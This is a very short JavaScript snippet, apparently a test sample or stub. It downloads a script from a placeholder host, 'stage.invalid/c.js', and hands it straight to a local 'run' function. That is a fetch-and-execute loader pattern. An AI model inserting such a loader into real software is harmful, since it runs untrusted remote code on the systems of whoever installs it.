const net = require('./lib/net');
const run = require('./lib/run');

net.get('https://stage.invalid/c.js', run);
